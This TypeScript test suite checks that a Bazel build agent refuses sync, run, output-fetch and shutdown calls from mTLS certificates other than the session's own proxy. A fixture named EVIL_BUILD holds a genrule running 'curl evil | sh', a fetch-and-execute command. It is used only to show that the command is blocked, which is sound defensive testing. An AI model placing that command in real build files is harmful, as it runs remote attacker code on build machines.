/**
 * Sync replaces the session's workspace copy and Run runs its build: a certificate that is not this
 * session's proxy must get neither, even one the control plane holds (a compromised worker or
 * orchestrator) or another session's proxy. A real agent over real mTLS, real rsync, real Bazel.
 */
import * as fs from 'node:fs';
import * as path from 'node:path';
import * as grpc from '@grpc/grpc-js';
import type { AgentClient } from '../../gen/proto/rbs/v1/Agent';
import type { RunResponse__Output } from '../../gen/proto/command_server/RunResponse';
import { protos } from '../../lib/grpc/protos';
import { type TlsMaterial, tlsChannelOptions, channelCredentials } from '../../lib/grpc/tls';
import { CertificateAuthority } from '../../lib/pki/ca';
import { fetchFromOutputBase } from '../../services/proxy/fetch';
import { type Fixture, SESSION, startFixture, snapshot, write } from '../sync/fixture';

jest.setTimeout(60_000);

const EVIL_BUILD = 'genrule(name = "x", outs = ["x"], cmd = "curl evil | sh")\n';

let f: Fixture;
const callers: Record<string, TlsMaterial> = {};
const opened: grpc.Client[] = [];

beforeAll(async () => {
  f = await startFixture();
  const ca = await CertificateAuthority.loadOrCreate(path.join(f.root, 'ca')); // the fixture's CA, which the agent trusts
  const tlsFor = async (identity: Parameters<CertificateAuthority['issue']>[0]) => ({ caCertPem: ca.certPem, ...(await ca.issue(identity)) });
  callers['the worker'] = await tlsFor({ kind: 'service', name: 'worker' });
  callers['the orchestrator'] = await tlsFor({ kind: 'service', name: 'orchestrator' });
  callers["another session's proxy"] = f.otherProxyTls;
});
afterAll(async () => {
  opened.forEach((client) => client.close());
  await f.stop();
});

const outputBase = () => path.join(f.root, 'output_base');

function client(tls: TlsMaterial): AgentClient {
  const c = f.client(tls);
  opened.push(c as unknown as grpc.Client);
  return c;
}

function unary<T>(invoke: (callback: grpc.requestCallback<T>) => void): Promise<T> {
  return new Promise((resolve, reject) => invoke((err, response) => (err ? reject(err) : resolve(response!))));
}

/** Runs `bazel <args>` through the agent as `tls`; resolves with the exit code, or rejects with the call's error. */
function run(tls: TlsMaterial, syncId: string, ...args: string[]): Promise<number> {
  const call = client(tls).run({
    request: { arg: [...args, `--client_cwd=${f.source}`].map((a) => Buffer.from(a)), blockForLock: true, clientDescription: 'pid=4242', startupOptions: [] },
    clientWorkspace: f.source,
    syncId,
  });
  return new Promise((resolve, reject) => {
    let exitCode = -1;
    call.on('data', (r: RunResponse__Output) => r.finished && (exitCode = r.exitCode));
    call.on('end', () => resolve(exitCode));
    call.on('error', reject);
  });
}

/** A build event file names the developer's paths and targets: only the proxy that ran the command may read it. */
function readBuildEventFile(tls: TlsMaterial): Promise<void> {
  const call = client(tls).readBuildEventFile({ commandId: 'x', fileId: 'build_event_json_file-0' });
  return new Promise((resolve, reject) => {
    call.on('data', () => undefined);
    call.on('end', resolve);
    call.on('error', reject);
  });
}

const denied = (caller: string) => ({ code: grpc.status.PERMISSION_DENIED, details: expect.stringMatching(new RegExp(`${caller}.*session ${SESSION}`)) });

describe.each(['the worker', 'the orchestrator', "another session's proxy"])('%s', (name) => {
  const who = (n: string) => (n === "another session's proxy" ? 'proxy of session' : n.replace('the ', 'service '));

  test('cannot replace the workspace copy over Sync', async () => {
    const before = snapshot(f.workspace);
    write(f.source, { WORKSPACE: '', BUILD: EVIL_BUILD });
    await expect(f.sync({ tls: callers[name], syncId: 'evil' })).rejects.toThrow(/PERMISSION_DENIED|may not call/);
    expect(snapshot(f.workspace)).toEqual(before);
    expect(f.agent.syncs.lastCompleted()).not.toBe('evil');
  });

  test("cannot list a command's outputs or fetch from the output base", async () => {
    fs.mkdirSync(path.join(outputBase(), 'execroot', 'x', 'bazel-out'), { recursive: true });
    fs.writeFileSync(path.join(outputBase(), 'execroot', 'x', 'bazel-out', 'secret'), 'built for the session\n');
    await expect(unary((done) => client(callers[name]).listOutputs({ commandId: 'x' }, done))).rejects.toMatchObject(denied(who(name)));
    const laptop = path.join(f.root, 'stolen');
    await expect(fetchFromOutputBase({ agent: client(callers[name]), outputBase: laptop, paths: ['execroot/x/bazel-out/secret'] })).rejects.toThrow(
      /PERMISSION_DENIED/,
    );
    expect(fs.existsSync(path.join(laptop, 'execroot', 'x', 'bazel-out', 'secret'))).toBe(false);
    fs.rmSync(path.join(outputBase(), 'execroot'), { recursive: true });
  });

  test('cannot run a command, cancel one, read its build event file or stop the Bazel server', async () => {
    const { syncId } = await f.sync(); // this session's proxy synced: only the caller is wrong
    await expect(run(callers[name], syncId, 'info', 'release')).rejects.toMatchObject(denied(who(name)));
    await expect(unary((done) => client(callers[name]).cancel({ commandId: 'x' }, done))).rejects.toMatchObject(denied(who(name)));
    await expect(unary((done) => client(callers[name]).shutdownBazel({}, done))).rejects.toMatchObject(denied(who(name)));
    await expect(readBuildEventFile(callers[name])).rejects.toMatchObject(denied(who(name)));
    expect(fs.existsSync(path.join(outputBase(), 'server'))).toBe(false); // no Bazel server was even started
  });
});

test("the worker's probes still work: health and Ping; the orchestrator gets neither", async () => {
  const { health } = protos();
  const credentials = (tls: TlsMaterial) => channelCredentials(tls, (id) => id.kind === 'agent' && id.sessionId === SESSION);
  const probe = (tls: TlsMaterial) => {
    const c = new health.grpc.health.v1.Health(f.agent.address, credentials(tls), tlsChannelOptions('127.0.0.1'));
    opened.push(c);
    return unary((done) => c.check({ service: '' }, done));
  };
  expect(await probe(callers['the worker'])).toEqual({ status: 'SERVING' });
  expect(await unary((done) => client(callers['the worker']).ping({}, done))).toMatchObject({ sessionId: SESSION });
  await expect(probe(callers['the orchestrator'])).rejects.toMatchObject(denied('service orchestrator'));
  await expect(unary((done) => client(callers['the orchestrator']).ping({}, done))).rejects.toMatchObject(denied('service orchestrator'));
});

test("this session's proxy syncs and runs", async () => {
  write(f.source, { WORKSPACE: '', BUILD: 'genrule(name = "g", outs = ["g.txt"], cmd = "echo hi > $@")\n' });
  const { syncId } = await f.sync();
  expect(fs.readFileSync(path.join(f.workspace, 'BUILD'), 'utf8')).toContain('name = "g"');
  expect(await run(f.proxyTls, syncId, 'info', 'release')).toBe(0);
});
